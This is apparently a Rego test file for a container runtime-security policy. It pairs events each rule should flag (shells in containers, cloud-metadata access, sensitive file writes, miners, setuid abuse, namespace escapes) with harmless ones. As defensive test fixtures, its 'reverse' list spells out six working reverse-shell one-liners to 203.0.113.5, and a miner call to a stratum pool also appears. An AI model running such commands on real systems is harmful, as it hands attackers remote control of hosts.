# SPDX-License-Identifier: BSD-2-Clause
# Each rule: an event that it is about, and the one beside it that is harmless.
package ss_test

import data.ss

rules(set_of_findings) := {finding.rule | some finding in set_of_findings}

denied(event) := found if {
	found := rules(ss.deny) with input as event
}

warned(event) := found if {
	found := rules(ss.warn) with input as event
}

web := {"container": {"id": "551e161c47d8", "runtime": "docker", "name": "web", "image": "nginx:1.25"}}

exec(exe, args) := {
	"type": "process.exec",
	"process": {"id": "a-1-2-3", "pid": 7, "exe": exe, "args": args, "uid": 1000},
	"parent": {"exe": "/usr/bin/bash"},
	"ancestors": ["bash", "sshd"],
}

test_ordinary_command_is_nothing if {
	count(denied(exec("/usr/bin/ls", ["ls", "-l"]))) == 0
	count(warned(exec("/usr/bin/ls", ["ls", "-l"]))) == 0
}

test_meta_lines_are_nothing if count(denied({"type": "meta.start"})) == 0

test_shell_in_container if {
	shell := object.union(exec("/bin/bash", ["bash"]), {"process": {"tty": "pts/0"}})
	"shell-in-container" in denied(object.union(shell, web))
	not "shell-in-container" in denied(shell)
	not "shell-in-container" in denied(object.union(exec("/bin/bash", ["bash"]), web))
}

test_shell_below_server if {
	event := exec("/usr/bin/dash", ["sh", "-c", "id"])
	"shell-below-server" in denied(object.union(event, {"parent": {"exe": "/usr/sbin/nginx"}}))
	not "shell-below-server" in denied(event)
}

test_shell_below_server_of_the_site if {
	event := object.union(exec("/usr/bin/dash", ["sh"]), {"parent": {"exe": "/opt/ours/serverd"}})
	not "shell-below-server" in denied(event)
	found := rules(ss.deny) with input as event with data.settings as {"servers": ["serverd"]}
	"shell-below-server" in found
}

reverse := [
	["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
	["nc", "203.0.113.5", "4444", "-e", "/bin/sh"],
	["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"],
	["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0);pty.spawn('sh')"],
	["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec('/bin/sh -i');"],
	["sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 9 > /tmp/f"],
]

test_reverse_shells if {
	every args in reverse {
		"reverse-shell" in denied(exec(concat("", ["/usr/bin/", args[0]]), args))
	}
}

test_network_tools_in_peace if {
	count(denied(exec("/usr/bin/nc", ["nc", "-z", "db", "5432"]))) == 0
	count(denied(exec("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"]))) == 0
}

connect(exe, ip) := {
	"type": "net.connect",
	"process": {"exe": exe, "pid": 7, "id": "a-1-2-3"},
	"net": {"transport": "tcp", "dst_ip": ip, "dst_port": 443},
}

test_shell_connects if {
	"shell-connects" in denied(connect("/usr/bin/bash", "203.0.113.5"))
	not "shell-connects" in denied(connect("/usr/bin/bash", "10.1.2.3"))
	not "shell-connects" in denied(connect("/usr/bin/curl", "203.0.113.5"))
}

test_egress if {
	"egress" in warned(object.union(connect("/usr/bin/curl", "203.0.113.5"), web))
	"egress" in warned(object.union(connect("/usr/bin/curl", "2001:db8::1"), web))
	not "egress" in warned(object.union(connect("/usr/bin/curl", "10.0.0.7"), web))
	not "egress" in warned(connect("/usr/bin/curl", "203.0.113.5"))
	failed := object.union(connect("/usr/bin/curl", "203.0.113.5"), {"net": {"error": "ECONNREFUSED"}})
	not "egress" in warned(object.union(failed, web))
}

test_cloud_metadata if {
	"cloud-metadata" in denied(object.union(connect("/usr/bin/curl", "169.254.169.254"), web))
	not "cloud-metadata" in denied(connect("/usr/bin/cloud-init", "169.254.169.254"))
}

file(type, path, exe) := {"type": type, "file": {"path": path}, "process": {"exe": exe, "pid": 7, "id": "a-1-2-3"}}

test_sensitive_file if {
	"sensitive-file" in denied(file("file.write", "/etc/shadow", "/usr/bin/vim"))
	"sensitive-file" in denied(file("file.write", "/etc/sudoers.d/me", "/usr/bin/tee"))
	"sensitive-file" in denied(file("file.unlink", "/etc/ld.so.preload", "/usr/bin/rm"))
	not "sensitive-file" in denied(file("file.write", "/etc/shadow", "/usr/sbin/usermod"))
	not "sensitive-file" in denied(file("file.write", "/srv/passwd", "/usr/bin/vim"))
	not "sensitive-file" in denied(file("file.open", "/etc/passwd", "/usr/bin/cat"))
}

test_sensitive_file_by_rename if {
	event := object.union(file("file.rename", "/tmp/new", "/usr/bin/mv"), {"file": {"path2": "/etc/passwd"}})
	"sensitive-file" in denied(event)
	not "sensitive-file" in denied(object.union(event, {"file": {"error": "EACCES"}}))
}

test_binary_changed if {
	"binary-changed" in denied(file("file.write", "/usr/bin/ls", "/usr/bin/cp"))
	not "binary-changed" in denied(file("file.write", "/usr/bin/ls", "/usr/bin/dpkg"))
	not "binary-changed" in denied(file("file.write", "/home/ann/bin/ls", "/usr/bin/cp"))
}

test_timestomp if {
	back := {"file": {"mtime": "2001-09-09T01:46:40.000000000Z", "mtime_before": "2026-11-22T10:48:07.629827780Z"}}
	forth := {"file": {"mtime": "2026-11-22T10:48:07.629827780Z", "mtime_before": "2001-09-09T01:46:40.000000000Z"}}
	event := file("file.utimes", "/usr/bin/ls", "/usr/bin/touch")
	"timestomp" in warned(object.union(event, back))
	not "timestomp" in warned(object.union(event, forth))
}

test_miners if {
	"crypto-miner" in denied(exec("/tmp/xmrig", ["./xmrig"]))
	"crypto-miner" in denied(exec("/tmp/.x", [".x", "-o", "stratum+tcp://pool.example:3333"]))
	not "crypto-miner" in denied(exec("/usr/bin/make", ["make", "miner"]))
}

test_mining_pools if {
	asked := {"type": "dns.query", "dns": {"name": "xmr.pool.example.org"}, "process": {"exe": "/tmp/x"}}
	"mining-pool" in denied(asked)
	not "mining-pool" in denied(object.union(asked, {"dns": {"name": "www.example.org"}}))
	hello := {"type": "tls.client_hello", "tls": {"server_name": "pool.minexmr.com"}, "process": {"exe": "/tmp/x"}}
	"mining-pool" in denied(hello)
}

test_setuid_program if {
	event := object.union(exec("/opt/odd", ["odd"]), {"process": {"flags": ["setuid"]}})
	"setuid-program" in denied(event)
	not "setuid-program" in denied(object.union(event, {"process": {"exe": "/usr/bin/sudo"}}))
	not "setuid-program" in denied(object.union(event, {"process": {"uid": 0}}))
}

test_setuid_bit if {
	event := object.union(file("file.chmod", "/tmp/x", "/usr/bin/chmod"), {"file": {"mode": "4755", "mode_before": "0755"}})
	"setuid-bit" in denied(event)
	not "setuid-bit" in denied(object.union(event, {"file": {"mode": "1777"}}))
	not "setuid-bit" in denied(object.union(event, {"file": {"mode_before": "4755"}}))
}

test_became_root if {
	event := {
		"type": "process.creds",
		"process": {"exe": "/tmp/exploit"},
		"creds": {"via": "setuid", "euid": {"from": 1000, "to": 0}},
	}
	"became-root" in denied(event)
	not "became-root" in denied(object.union(event, {"creds": {"via": "exec"}}))
	not "became-root" in denied(object.union(event, {"creds": {"euid": {"from": 0}}}))
}

test_ptrace if {
	event := {"type": "process.ptrace", "process": {"exe": "/tmp/x"}, "ptrace": {"op": "attach", "target": {"comm": "sshd"}}}
	"ptrace" in warned(event)
	not "ptrace" in warned(object.union(event, {"process": {"exe": "/usr/bin/gdb"}}))
}

test_kernel_module if {
	event := {"type": "kernel.module_load", "process": {"exe": "/usr/bin/kmod"}, "module": {"name": "loop"}}
	not "kernel-module" in denied(event)
	"kernel-module" in denied(object.union(event, web))
	"kernel-module" in denied(object.union(event, {"module": {"taints": ["unsigned"]}}))
	"kernel-module" in denied(object.union(event, {"process": {"exe": "/tmp/x"}}))
}

test_bpf_in_container if {
	event := {"type": "kernel.bpf_load", "process": {"exe": "/app"}, "bpf": {"op": "load"}}
	"bpf-in-container" in denied(object.union(event, web))
	not "bpf-in-container" in denied(event)
}

test_kexec if "kexec" in denied({"type": "kernel.kexec", "process": {"exe": "/sbin/kexec"}})

test_namespace_escape if {
	event := {"type": "ns.set", "process": {"exe": "/usr/bin/nsenter"}, "ns": {"mnt_ns": {"from": 1, "to": 2}}}
	"namespace-escape" in denied(object.union(event, web))
	not "namespace-escape" in denied(event)
}

test_user_namespace if {
	event := {"type": "ns.unshare", "process": {"exe": "/usr/bin/unshare"}, "ns": {"flags": ["CLONE_NEWUSER"]}}
	"user-namespace" in warned(object.union(event, web))
	not "user-namespace" in warned(event)
}

test_mount_in_container if {
	event := {"type": "fs.mount", "process": {"exe": "/usr/bin/mount"}, "mount": {"source": "/dev/sda1", "fstype": "ext4"}}
	"mount-in-container" in denied(object.union(event, web))
	"mount-in-container" in denied(object.union(object.union(event, {"mount": {"source": "none", "fstype": "cgroup"}}), web))
	not "mount-in-container" in denied(event)
	not "mount-in-container" in denied(object.union(object.union(event, {"mount": {"source": "tmpfs", "fstype": "tmpfs"}}), web))
}

test_runtime_socket if {
	event := {"type": "net.connect", "process": {"exe": "/x"}, "net": {"transport": "stream", "path": "/run/docker.sock"}}
	"runtime-socket" in denied(object.union(event, web))
	not "runtime-socket" in denied(event)
}

test_drift if {
	event := object.union(exec("/tmp/new", ["new"]), {"process": {"flags": ["upper_layer"]}})
	"drift" in denied(object.union(event, web))
	not "drift" in denied(event)
}

test_manifest if {
	manifest := {"manifest": {"nginx:1.25": {"files": ["/usr/sbin/nginx"]}}}
	bad := rules(ss.deny) with input as object.union(exec("/usr/bin/id", ["id"]), web) with data.settings as manifest
	"manifest" in bad
	good := rules(ss.deny) with input as object.union(exec("/usr/sbin/nginx", ["nginx"]), web) with data.settings as manifest
	not "manifest" in good
}

test_actions_only_when_told if {
	miner := exec("/tmp/xmrig", ["xmrig"])
	none := ss.actions with input as miner
	count(none) == 0
	some_action := ss.actions with input as miner with data.settings as {"kill": ["crypto-miner"]}
	some_action == {
		{
			"action": "kill",
			"cause": {"rule": "crypto-miner"},
			"target": {"id": "a-1-2-3", "pid": 7},
		},
	}
}
